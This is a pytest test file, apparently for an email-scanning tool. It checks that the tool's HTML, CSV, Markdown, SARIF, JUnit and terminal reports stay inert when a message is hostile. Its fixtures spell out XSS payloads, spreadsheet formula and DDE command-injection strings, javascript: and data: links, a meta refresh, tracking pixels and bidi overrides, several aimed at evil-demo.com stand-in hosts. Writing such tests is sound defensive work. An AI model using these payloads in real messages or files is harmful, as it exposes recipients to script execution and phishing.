"""Everything a message controls is hostile: its subject, sender, file name, List-Unsubscribe and List-Id
headers, charset labels, and every URL of its HTML. Each output of `scanner email` shows it as text and
runs nothing: report.html opened in Chromium (no script, no request, no dialog, no CSP violation, the
payloads shown literally), CSV cells a spreadsheet cannot run, Markdown that cannot carry HTML or links,
SARIF and JUnit that stay valid, a terminal verdict without control characters."""

from __future__ import annotations

import csv
import email.policy
import json
from email.message import EmailMessage
from email.utils import formataddr
from urllib.parse import quote

import pytest
from report_browser import browser, open_report
from report_schemas import junit_errors, sarif_errors

from scanner.cli import main
from scanner.csvsafe import FORMULA_START, restore_cell

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("https://evil-demo.com","x")'
BIDI = "\u202eevil\u202c"
TEMPLATE = "{{7*7}} ${7*7}"
SUBJECT = f"{FORMULA} {SCRIPT} {IMG} {TEMPLATE} {BIDI}"
SENDER = (f"{IMG} {SCRIPT}", "news@sender-demo.com")
REDIRECT = "https://x.evil-demo.com/=cmd|' /C calc'!A0?r=" + quote(
    "https://dest.evil-demo.com/<script>alert(7)</script>"
)
HTML = f"""<html><head><meta http-equiv="refresh" content="0;url=https://refresh.evil-demo.com/">
<base href="https://base.evil-demo.com/"><script src="https://js.evil-demo.com/x.js"></script>
<style>.x {{ background: url('https://bg.evil-demo.com/</style><script>alert(2)</script>.png') }}</style>
</head>
<body onload="alert(3)">
<img src="https://t.evil-demo.com/{BIDI}/p.gif?e=1" width="1" height="1" onerror="alert(5)">
<img src='https://t.evil-demo.com/p.gif?q="><script>alert(4)</script>&amp;u=ann.reader@example.org'
 width=1 height=1>
<a href="javascript:alert(6)">click</a>
<a href="{REDIRECT}">go</a>
<a href="data:text/html,<script>alert(8)</script>">data</a>
<iframe src="https://frame.evil-demo.com/{SCRIPT}"></iframe>
</body></html>"""


def hostile_message() -> bytes:
    msg = EmailMessage(policy=email.policy.default.clone(max_line_length=998))
    msg["From"] = formataddr(SENDER)
    msg["To"] = "Ann Reader <ann.reader@example.org>"
    msg["Subject"] = SUBJECT
    msg["List-Id"] = f"{SCRIPT} <list.evil-demo.com>"
    msg["X-Mailer"] = f"{FORMULA} {IMG}"
    msg["List-Unsubscribe"] = '<https://u.evil-demo.com/"onmouseover="alert(9)>, <javascript:alert(10)>'
    msg.set_content(f"{SCRIPT} https://text.evil-demo.com/{TEMPLATE}")
    msg.add_alternative(HTML, subtype="html")
    raw = bytes(msg)
    # a charset label no codec knows, itself a payload: the note that names it is message text
    return raw.replace(b'charset="utf-8"', b'charset="<b>x</b>"', 1)


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    folder = base / FORMULA.replace("/", "_").replace('"', "")  # the message key starts with "="
    folder.mkdir()
    (folder / f"{SCRIPT.replace('/', '_')}.eml").write_bytes(hostile_message())
    out = base / "out"
    code = main(["--no-config", "email", str(folder), "--out", str(out), "--format", "all"])
    assert code == 1
    return out


@pytest.mark.browser
def test_report_html_runs_nothing_and_shows_the_text(outputs):
    with browser() as b, open_report(b, outputs / "report.html") as opened:
        page = opened.page
        assert opened.dialogs == [] and opened.errors == [] and opened.csp_violations == []
        assert opened.network == []  # no URL of the message is fetched (nor even a link)
        assert page.url.startswith("file://")
        counts = page.evaluate(
            """() => ({
            script: document.scripts.length,
            embedded: document.querySelectorAll('img, iframe, frame, object, embed, base, link').length,
            handlers: document.querySelectorAll('[onload], [onerror], [onclick], [onmouseover]').length,
            refresh: document.querySelectorAll('meta[http-equiv="refresh"]').length,
            links: Array.from(document.links).filter(a => !a.getAttribute('href').startsWith('#')).length,
            styles: document.querySelectorAll('style').length,
        })"""
        )
        assert counts == {"script": 0, "embedded": 0, "handlers": 0, "refresh": 0, "links": 0, "styles": 1}
        page.evaluate("() => document.querySelectorAll('details').forEach(d => d.open = true)")
        text = page.evaluate("() => document.body.innerText")
    for shown in (SCRIPT, IMG, FORMULA, TEMPLATE, BIDI, "unknown charset '<b>x</b>'", "javascript:alert(10)"):
        assert shown in text, shown
    assert "alert(4)" in text and "[address:plain]" in text and "ann.reader@example.org" not in text


def test_csv_cells_cannot_run(outputs):
    for name in ("findings.csv", "references.csv"):
        with (outputs / name).open(encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)], name
        if name == "references.csv":
            messages = {row[0] for row in rows[1:]}
            assert len(messages) == 1 and next(iter(messages)).startswith("'=HYPERLINK(")
            subjects = {restore_cell(row[1]) for row in rows[1:]}
            assert subjects == {SUBJECT}


def test_markdown_json_sarif_junit_stay_inert_and_valid(outputs):
    md = (outputs / "summary.md").read_text(encoding="utf-8")
    assert "<script" not in md.replace("\\<script", "") and "<img" not in md.replace("\\<img", "")
    assert "](javascript" not in md and "[x](" not in md
    doc = json.loads((outputs / "email.json").read_text(encoding="utf-8"))
    assert doc["messages"][0]["subject"] == SUBJECT
    assert sarif_errors(json.loads((outputs / "results.sarif").read_text(encoding="utf-8"))) == []
    assert junit_errors((outputs / "junit.xml").read_text(encoding="utf-8")) == []


def test_terminal_verdict_has_no_control_characters(tmp_path, capsys):
    path = tmp_path / "m.eml"
    path.write_bytes(hostile_message())
    assert main(["--no-config", "email", str(path), "--out", str(tmp_path / "out")]) == 1
    out, err = capsys.readouterr()
    assert "\u202e" not in out + err and "\x1b" not in out + err
    assert "\\u202e" in out  # the URL with the override is printed, escaped
    assert all(
        line.startswith(("wrote ", "messages: ", "findings: ", "FAIL", "  - ")) for line in out.splitlines()
    )
